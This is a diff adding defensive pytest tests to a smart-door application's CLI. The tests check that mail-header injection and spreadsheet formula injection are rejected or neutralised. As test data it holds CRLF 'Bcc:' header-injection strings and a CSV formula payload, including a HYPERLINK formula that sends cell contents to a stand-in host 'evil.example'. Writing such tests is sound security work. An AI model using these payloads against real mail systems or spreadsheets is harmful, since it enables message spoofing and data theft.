@@ -12,6 +12,7 @@ import subprocess
 import sys
 import time
 import urllib.request
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -115,3 +116,47 @@ def test_cli_shares_the_database_of_a_running_server(env, tmp_path):
     # the server stopped its database; the CLI now starts its own on the same folder
     assert not (Path(env["DATA_DIR"]) / "embedded-db.json").exists()
     assert [d["id"] for d in json.loads(run(env, "door", "list", "--json").stdout)] == [door["id"]]
+
+
+@pytest.mark.parametrize(
+    "args, shown",
+    [
+        (["Front\r\nBcc: mallory@example.net", "--recipient", "a@example.com"], "door name"),
+        (["Front", "--recipient", "a@example.com\r\nBcc: mallory@example.net"], "not an email address"),
+        (["Front", "--recipient", "Alice <a@example.com>"], "not an email address"),
+    ],
+)
+def test_door_add_refuses_what_cannot_go_into_a_mail_header(env, running_db, args, shown):
+    p = run(env, "door", "add", *args, check=False)
+    assert p.returncode != 0 and p.stdout == ""
+    assert p.stderr.count("\n") == 1 and shown in p.stderr and "Traceback" not in p.stderr
+    assert json.loads(run(env, "door", "list", "--json").stdout) == []
+
+
+def test_refuses_recipients_that_break_a_mail_header_at_start(env):
+    env["RECIPIENTS"] = "alice@example.com,bob@example.com\r\nBcc: mallory@example.net"
+    p = run(env, "door", "list", check=False)
+    assert p.returncode == 2
+    assert p.stderr.count("\n") == 1 and "RECIPIENTS" in p.stderr and "Traceback" not in p.stderr
+
+
+def test_audit_csv_cells_cannot_be_spreadsheet_formulas(env, running_db):
+    """A device chooses its `firmware` string, and the state report puts it in the audit."""
+    from pymongo import MongoClient
+
+    from smartdoor.audit.service import entry
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]
+    events = [
+        entry(now=datetime(2026, 1, 1, 12, i, tzinfo=UTC), event="state_report", outcome="info", door="d1", firmware=f)
+        for i, f in enumerate(hostile)
+    ]
+    events.append(entry(now=datetime(2026, 1, 1, 13, tzinfo=UTC), event="state_report", outcome="info", rssi=-60))
+    with MongoClient(running_db.uri) as client:
+        client["smart_door"].audit.insert_many(events)
+    out = subprocess.run([*SMARTDOOR, "audit", "--format", "csv"], env=env, capture_output=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    rows = list(csv.DictReader(io.StringIO(out.stdout.decode(), newline="")))  # bytes: keep the \r as sent
+    assert [r["firmware"] for r in rows[:-1]] == ["'" + f for f in hostile]
+    assert rows[-1]["rssi"] == "-60" and rows[-1]["firmware"] == ""  # a number stays a number
+    assert rows[0]["event"] == "state_report" and rows[0]["at"].startswith("2026-01-01T12:00")
